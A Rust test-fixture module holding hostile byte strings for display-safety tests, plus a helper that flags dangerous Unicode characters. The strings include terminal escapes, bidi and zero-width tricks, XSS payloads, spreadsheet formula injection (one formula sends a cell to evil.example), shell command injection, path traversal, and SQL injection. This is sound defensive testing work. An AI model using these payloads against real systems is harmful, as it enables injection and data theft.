//! Hostile names of processes, jobs, users, comments, errors and logs.
//!
//! Included by the tests of several crates. What runs as a script sets `window.pwned`.

/// Short ones; some are no UTF-8.
pub const NAMES: &[&[u8]] = &[
    // Bytes of no encoding, cut in the middle of a character, overlong, surrogates.
    b"a\xff\xfeb\x80\xc3(",
    b"\xe2\x82",
    b"\xc0\xaf\xe0\x80\xaf",
    b"\xed\xa0\x80\xed\xb0\x80",
    b"\xf4\x90\x80\x80",
    b"\0\0nul\0",
    // Control characters, C0 and C1, and what terminals make of them.
    b"a\nERROR forged line\r\nb",
    b"beep\x07\x08\x08\x08\x7f",
    b"\x1b[31mred\x1b[0m\x1b[2J\x1b[H",
    b"\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    b"\x1b]52;c;cm0gLXJmIC8=\x07\x1bP$q\"p\x1b\\\x1b[6n\x1bc",
    "c1\u{9b}2Jx\u{9d}0;t\u{9c}\u{85}\u{90}".as_bytes(),
    // Letters turned around, hidden, or stacked.
    "safe\u{202e}gpj.exe\u{202c}\u{2066}x\u{2069}\u{2067}y\u{2068}z\u{202a}\u{202b}\u{202d}".as_bytes(),
    "\u{200e}\u{200f}\u{061c}zero\u{200b}width\u{200c}\u{200d}\u{2060}\u{feff}\u{00ad}\u{034f}\u{180e}"
        .as_bytes(),
    "\u{115f}\u{1160}\u{3164}\u{ffa0}\u{2028}\u{2029}\u{fff9}\u{fffa}\u{fffb}\u{fffc}".as_bytes(),
    "tags\u{e0001}\u{e0041}\u{e007f}\u{fe0f}\u{e0100}\u{e01ef}".as_bytes(),
    "\u{05d0}\u{05d1}\u{05d2} 123 abc \u{0627}\u{0644}".as_bytes(),
    "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{20d0}\u{1ab0}\u{fe20}"
        .as_bytes(),
    "\u{fdd0}\u{fffe}\u{ffff}\u{1fffe}\u{10ffff}\u{e000}".as_bytes(),
    "wide\u{a0}\u{2003}\u{3000}\u{202f}space".as_bytes(),
    // HTML, scripts, addresses.
    b"<script>window.pwned=1</script>",
    b"</title></textarea></style><script>window.pwned=1</script>",
    b"<img src=x onerror=window.pwned=1>",
    b"<svg/onload=window.pwned=1>",
    b"\"><iframe srcdoc='<script>parent.window.pwned=1</script>'></iframe>",
    b"' onmouseover='window.pwned=1' x='",
    b"javascript:window.pwned=1//",
    b"data:text/html,<script>window.pwned=1</script>",
    b"<a href=javascript:window.pwned=1>click</a>",
    b"<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    b"<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    b"{{constructor.constructor('window.pwned=1')()}}${window.pwned=1}",
    b"&lt;script&gt;&#x3c;img src=x onerror=window.pwned=1&#x3e;",
    b"<!--<!---->]]><?x?>%3Cscript%3E",
    b"__proto__",
    b"constructor",
    b"../../../../etc/passwd",
    // Spreadsheets, Markdown, metrics, shells, formats, queries.
    b"=cmd|' /C calc'!A0",
    b"=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    b"+1+1",
    b"-2+3+cmd|' /C calc'!A0",
    b"@SUM(1+1)*cmd|' /C calc'!A0",
    b"\t=1+1",
    b"\r=1+1",
    b" =1+1",
    "\u{200b}=1+1".as_bytes(),
    "\u{ff1d}1+1".as_bytes(),
    b"a,b;c\td\"e\"\"f'g",
    b"| a | b |\\|",
    b"![x](http://evil.example/x.png)[y](javascript:window.pwned=1)`code`<b>",
    b"\"\n} 1\nevil{x=\"\\",
    b"$(touch pwned)`touch pwned`;touch pwned|touch pwned&touch pwned\n",
    b"-oProxyCommand=touch pwned",
    b"%s%s%n{}{0}%x",
    b"'; DROP TABLE jobs; --",
    b"",
    b" ",
    b".",
];

/// All of them, also those of ten thousand bytes.
pub fn all() -> Vec<Vec<u8>> {
    let long = |piece: &str| piece.repeat(10_000 / piece.len()).into_bytes();
    let mut names: Vec<Vec<u8>> = NAMES.iter().map(|name| name.to_vec()).collect();
    names.extend(
        ["x", "ü", "\u{301}", "\u{202e}a", "<b>", "\x1b[2J", "=", "\"", "\u{1f469}\u{200d}"].map(long),
    );
    names.push(vec![0xff; 10_000]);
    names
}

/// Returns whether a character must not appear in shown text.
pub fn is_harmful(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{3164}' | '\u{ffa0}')
        || matches!(c, '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}')
        || matches!(c, '\u{2060}'..='\u{206f}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{fff9}'..='\u{fffc}')
        || matches!(c, '\u{e0000}'..='\u{e0fff}')
}
